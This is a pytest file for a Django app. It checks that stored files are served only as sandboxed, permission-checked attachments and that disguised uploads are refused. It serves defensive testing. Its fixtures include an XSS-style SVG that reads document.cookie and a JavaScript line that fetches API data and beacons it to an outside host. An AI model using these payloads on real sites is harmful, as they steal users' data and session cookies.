"""Stored files reach only those who may see them, as sandboxed attachments, and uploads are
what their names say: every uploaded or generated file, through pages and API alike."""

import importlib
import io
import os
import zipfile
from pathlib import Path

import pypdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import clear_url_caches, reverse
from django_sendfile.utils import _get_sendfile

from collab import services as collab_services
from collab.models import SignatureRequest
from collab.uploads import upload_problem
from tasks import services
from tasks.models import ActionItem, Card
from tests.tasks import builders
from tests.tasks.api_support import api_for, card_url, item_url

pytestmark = pytest.mark.django_db

CSV = b"seat,count\nCAD,4\n"
HTML = b"<!DOCTYPE html><html><script src='/items/1/output/'></script></html>"
JS = b"fetch('/api/v1/cards/').then(r => r.text()).then(t => navigator.sendBeacon('//x.io', t))"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"PE\x00\x00"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"


def real_pdf() -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(width=200, height=200)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def real_docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def upload(name, content):
    return SimpleUploadedFile(name, content, "application/octet-stream")


def stored_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return sorted(path for path in root.rglob("*") if path.is_file()) if root.is_dir() else []


@pytest.fixture
def closed_card(org):
    """Closed, with its retrospective report, a deliverable's output file and a goal letter
    whose PDF is stored: one of each kind of stored file."""
    card = builders.active_card(org)
    item = builders.add_item(org, card)
    services.action_item_report_progress(
        item=item, by=org.tec_member, status="done", percent=100, output_file=upload("l.csv", CSV)
    )
    services.card_submit_for_acceptance(card=card, by=org.lead, deliverables=[item])
    card = builders.accept_and_close(org, card)
    letter = SignatureRequest.objects.get(
        object_id=card.pk, document_type="goal_confirmation_letter"
    )
    generated = collab_services.generated_document_get_or_render(request=letter, language="en")
    item.refresh_from_db()
    return card, item, letter, generated


def downloads(closed_card):
    """(url, Accept, content type, stored name) of every stored file, page and API."""
    card, item, letter, generated = closed_card
    pdf, octets = "application/pdf", "application/octet-stream"
    retrospective, output = card.retrospective_pdf.name, item.output_file.name
    # The copy filed at close is the Chinese one; other languages are rendered on demand.
    stored_language = "?lang=zh-hans"
    return [
        (
            reverse("tasks:card-retrospective-pdf", args=[card.code]) + stored_language,
            "",
            pdf,
            retrospective,
        ),
        (reverse("tasks:action-item-output", args=[item.pk]), "", octets, output),
        (reverse("signoff-pdf", args=[letter.pk]), "", pdf, generated.file.name),
        (card_url(card, "retrospective-pdf") + stored_language, pdf, pdf, retrospective),
        (item_url(item, "output-file"), octets, octets, output),
        (f"/api/v1/signature-requests/{letter.pk}/pdf/", pdf, pdf, generated.file.name),
    ]


def get(user, url, accept):
    client = api_for(user)
    client.force_login(user)  # the pages need a session; the API takes either
    return client.get(url, HTTP_ACCEPT=accept) if accept else client.get(url)


def assert_sandboxed_attachment(response, content_type):
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


# --- finding 1: no /media/ route; every file through a view that checks who may see it ------


@pytest.fixture
def debug_urls(settings):
    """The URLs as `make run`'s DEBUG builds them (a static() media route would appear)."""
    import collab.urls

    settings.DEBUG = True
    importlib.reload(collab.urls)
    clear_url_caches()
    yield
    settings.DEBUG = False
    importlib.reload(collab.urls)
    clear_url_caches()


def test_a_stored_files_guessable_media_path_is_404_even_with_debug_on(
    client, settings, org, closed_card, debug_urls
):
    card, item, _letter, generated = closed_card
    names = [card.retrospective_pdf.name, item.output_file.name, generated.file.name]
    assert card.retrospective_pdf.name == f"cards/retrospectives/{card.code}-retrospective.pdf"
    for name in names:
        assert (Path(settings.MEDIA_ROOT) / name).is_file()
        assert client.get(f"/{settings.MEDIA_URL}{name}").status_code == 404
    client.force_login(org.lead)  # not even for someone who may see the card
    for name in names:
        assert client.get(f"/{settings.MEDIA_URL}{name}").status_code == 404


def test_every_stored_file_is_a_sandboxed_attachment_for_those_who_may_see_it(org, closed_card):
    _card, item, _letter, _generated = closed_card
    for url, accept, content_type, _name in downloads(closed_card):
        response = get(org.fin_head, url, accept)
        assert_sandboxed_attachment(response, content_type)
    output = get(org.fin_head, item_url(item, "output-file"), "application/octet-stream")
    assert output.content == CSV


def test_outsiders_get_404_for_every_stored_file(org, closed_card):
    for url, accept, _content_type, _name in downloads(closed_card):
        response = get(org.outsider, url, accept)
        assert response.status_code == 404, url
        assert "Content-Disposition" not in response


def test_the_api_links_files_through_the_checked_views_never_media(org, closed_card):
    card, item, letter, _generated = closed_card
    api = api_for(org.fin_head)
    answers = [
        api.get(card_url(card)),
        api.get(item_url(item)),
        api.get(f"/api/v1/signature-requests/{letter.pk}/"),
    ]
    for answer in answers:
        assert answer.status_code == 200
        assert "/media/" not in answer.content.decode()
    assert answers[0].json()["retrospective_pdf_url"].endswith(card_url(card, "retrospective-pdf"))
    assert answers[1].json()["output_file_url"].endswith(item_url(item, "output-file"))


@pytest.fixture
def nginx_sendfile(settings):
    settings.SENDFILE_BACKEND = "django_sendfile.backends.nginx"
    settings.SENDFILE_URL = "/protected/"
    _get_sendfile.cache_clear()  # django-sendfile2 remembers its backend
    yield
    _get_sendfile.cache_clear()


def test_in_production_nginx_sends_the_bytes_of_a_checked_download(
    org, closed_card, nginx_sendfile
):
    for url, accept, content_type, name in downloads(closed_card):
        response = get(org.fin_head, url, accept)
        assert_sandboxed_attachment(response, content_type)
        assert response.content == b""
        assert response["X-Accel-Redirect"] == f"/protected/{name}"
        assert "X-Accel-Redirect" not in get(org.outsider, url, accept)


# --- finding 2: uploads checked by content in the service, page and API alike ---------------

REFUSED = [
    ("report.pdf", HTML, "is not a .pdf file"),
    ("report.pdf", JS, "is not a .pdf file"),
    ("chart.png", SVG, "is not a .png file"),
    ("chart.png", HTML, "is not a .png file"),
    ("report.html", HTML, "not a file type that can be uploaded"),
    ("steal.js", JS, "not a file type that can be uploaded"),
    ("drawing.svg", SVG, "not a file type that can be uploaded"),
    ("tool.exe", EXE, "not a file type that can be uploaded"),
    ("tool.pdf", EXE, "is not a .pdf file"),
    ("notes.txt", HTML, "web page or markup"),
    ("drawing.txt", SVG, "web page or markup"),
    ("data.csv", b"a,b\n\x00\x01", "not plain text"),
    ("data.csv", "名字".encode("gb18030"), "not plain text"),
    ("plan.docx", real_pdf(), "is not a .docx file"),
    ("README", CSV, "not a file type that can be uploaded"),
]


@pytest.mark.parametrize(("name", "content", "message"), REFUSED)
def test_a_disguised_or_unlisted_file_is_refused_by_page_and_api(
    client, settings, org, name, content, message
):
    item = builders.add_item(org, builders.active_card(org))
    before = stored_files(settings)
    client.force_login(org.tec_member)
    page = client.post(
        reverse("tasks:action-item-progress", args=[item.pk]),
        {"status": "in_progress", "percent": 50, "output_file": upload(name, content)},
    )
    assert page.status_code == 200
    assert message in " ".join(page.context["form"].errors["output_file"])

    api = api_for(org.tec_member).post(
        item_url(item, "progress"),
        {"status": "in_progress", "percent": 50, "output_file": upload(name, content)},
        format="multipart",
    )
    assert api.status_code == 400
    assert message in api.json()["fields"]["output_file"][0]
    item.refresh_from_db()
    assert item.percent == 0 and not item.output_file
    assert stored_files(settings) == before


ACCEPTED = [
    ("licences.csv", CSV),
    ("纪要.md", "# 会议纪要\n- 预算 ✅\n".encode()),
    ("notes.txt", "\ufeffplain text, with a BOM".encode()),
    ("report.pdf", real_pdf()),
    ("chart.png", PNG),
    ("plan.docx", real_docx()),
    ("bundle.zip", real_docx()),
]


@pytest.mark.parametrize(("name", "content"), ACCEPTED)
def test_a_listed_file_whose_content_matches_its_name_is_accepted(name, content):
    assert upload_problem(upload(name, content)) is None


def test_the_api_refuses_a_21_mb_file_in_the_service(settings, org):
    item = builders.add_item(org, builders.active_card(org))
    big = upload("numbers.csv", b"1,2\n" * (21 * 1024 * 1024 // 4))
    response = api_for(org.tec_member).post(
        item_url(item, "progress"),
        {"status": "in_progress", "percent": 50, "output_file": big},
        format="multipart",
    )
    assert response.status_code == 400
    assert response.json()["fields"]["output_file"] == ["The file is larger than 20 MB."]
    assert stored_files(settings) == []


def test_the_upload_limit_is_a_setting(settings, org):
    settings.CROSSDESK_MAX_UPLOAD_BYTES = 1024 * 1024
    assert upload_problem(upload("a.csv", b"1\n" * 600_000)) == "The file is larger than 1 MB."
    assert upload_problem(upload("a.csv", b"")) == "The file is empty."


def test_a_replaced_output_file_leaves_no_orphan_on_disk(
    settings, org, django_capture_on_commit_callbacks
):
    item = builders.add_item(org, builders.active_card(org))
    api = api_for(org.tec_member)

    def deliver(name, content):
        with django_capture_on_commit_callbacks(execute=True):
            response = api.post(
                item_url(item, "progress"),
                {"status": "in_progress", "percent": 50, "output_file": upload(name, content)},
                format="multipart",
            )
        assert response.status_code == 200, response.content
        item.refresh_from_db()
        return Path(item.output_file.path)

    first = deliver("draft.csv", CSV)
    second = deliver("final.pdf", real_pdf())
    assert not first.exists()
    assert stored_files(settings) == [second]
    refused = api.post(
        item_url(item, "progress"),
        {"status": "in_progress", "percent": 60, "output_file": upload("x.pdf", HTML)},
        format="multipart",
    )
    assert refused.status_code == 400
    assert stored_files(settings) == [second]  # a refused replacement keeps the current one


# --- finding 10: a media folder that cannot be written is a clear refusal, never a 500 ------


@pytest.fixture(params=["file_in_the_way", "read_only_folder"])
def unwritable_media(request, settings, tmp_path):
    if request.param == "file_in_the_way":
        blocker = tmp_path / "media-is-a-file"
        blocker.write_text("")
        settings.MEDIA_ROOT = blocker
    else:
        if os.geteuid() == 0:
            pytest.skip("root writes through permission bits; file_in_the_way covers it")
        folder = tmp_path / "read-only-media"
        folder.mkdir(mode=0o500)
        settings.MEDIA_ROOT = folder
    settings.SENDFILE_ROOT = str(settings.MEDIA_ROOT)
    yield
    if request.param == "read_only_folder":
        (tmp_path / "read-only-media").chmod(0o700)


STORAGE_MESSAGE = "The file could not be stored: the server's file folder cannot be written."


def test_an_upload_into_an_unwritable_media_folder_is_refused_clearly(
    client, org, unwritable_media
):
    item = builders.add_item(org, builders.active_card(org))
    client.force_login(org.tec_member)
    page = client.post(
        reverse("tasks:action-item-progress", args=[item.pk]),
        {"status": "in_progress", "percent": 50, "output_file": upload("l.csv", CSV)},
    )
    assert page.status_code == 200
    assert STORAGE_MESSAGE in " ".join(page.context["form"].errors["output_file"])
    api = api_for(org.tec_member).post(
        item_url(item, "progress"),
        {"status": "in_progress", "percent": 50, "output_file": upload("l.csv", CSV)},
        format="multipart",
    )
    assert api.status_code == 503
    assert api.json()["code"] == "storage_unavailable"
    assert STORAGE_MESSAGE in api.json()["fields"]["output_file"][0]
    item.refresh_from_db()
    assert item.percent == 0 and not item.output_file


def test_closing_a_card_into_an_unwritable_media_folder_keeps_it_open(org, unwritable_media):
    card = builders.card_in_acceptance(org)
    services.card_accept(card=card, by=org.fin_head)
    response = api_for(org.lead).post(
        card_url(card, "retrospective"),
        {"successes": "On time.", "shortcomings": "None.", "improvements": "None."},
        format="json",
    )
    assert response.status_code == 503
    assert STORAGE_MESSAGE in response.json()["detail"]
    card.refresh_from_db()
    assert card.status != Card.Status.CLOSED and not card.retrospective_pdf
    assert ActionItem.objects.filter(card=card).exists()


def test_a_signed_pdf_that_cannot_be_stored_is_a_clear_refusal_on_page_and_api(
    client, org, unwritable_media
):
    card = builders.active_card(org)
    letter = SignatureRequest.objects.get(
        object_id=card.pk, document_type="goal_confirmation_letter"
    )
    client.force_login(org.fin_head)
    page = client.get(reverse("signoff-pdf", args=[letter.pk]), follow=True)
    assert page.redirect_chain == [(reverse("signoff-detail", args=[letter.pk]), 302)]
    assert STORAGE_MESSAGE in " ".join(str(message) for message in page.context["messages"])
    api = api_for(org.fin_head).get(
        f"/api/v1/signature-requests/{letter.pk}/pdf/", HTTP_ACCEPT="application/pdf"
    )
    assert api.status_code == 503
    assert api["Content-Type"] == "application/json"
    assert api.json()["code"] == "storage_unavailable"


def test_a_report_copy_that_cannot_be_stored_is_a_clear_refusal_on_page_and_api(
    client, org, closed_card, settings, tmp_path
):
    card = closed_card[0]
    blocker = tmp_path / "media-is-a-file"
    blocker.write_text("")
    settings.MEDIA_ROOT = blocker  # the English copy is rendered on first download
    client.force_login(org.fin_head)
    page = client.get(
        reverse("tasks:card-retrospective-pdf", args=[card.code]) + "?lang=en", follow=True
    )
    documents_tab = reverse("tasks:card-detail", args=[card.code]) + "?tab=documents"
    assert page.redirect_chain == [(documents_tab, 302)]
    assert STORAGE_MESSAGE in " ".join(str(message) for message in page.context["messages"])
    api = api_for(org.fin_head).get(
        card_url(card, "retrospective-pdf") + "?lang=en", HTTP_ACCEPT="application/pdf"
    )
    assert api.status_code == 503
    assert api.json()["code"] == "storage_unavailable"


@pytest.mark.parametrize(
    ("choice", "backend"),
    [(None, "django_sendfile.backends.simple"), ("nginx", "django_sendfile.backends.nginx")],
)
def test_production_chooses_who_sends_files_from_the_environment(choice, backend):
    from tests.collab.test_settings import PRODUCTION_ENV, manage

    env = {**PRODUCTION_ENV, **({"CROSSDESK_SENDFILE": choice} if choice else {})}
    shown = "from django.conf import settings as s; print(s.SENDFILE_BACKEND, s.SENDFILE_URL)"
    result = manage("shell", "-c", shown, env=env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[-2:] == [backend, "/protected/"]
    refused = manage("check", env={**PRODUCTION_ENV, "CROSSDESK_SENDFILE": "apache"})
    assert refused.returncode != 0
    assert "CROSSDESK_SENDFILE must be one of simple, nginx" in refused.stderr
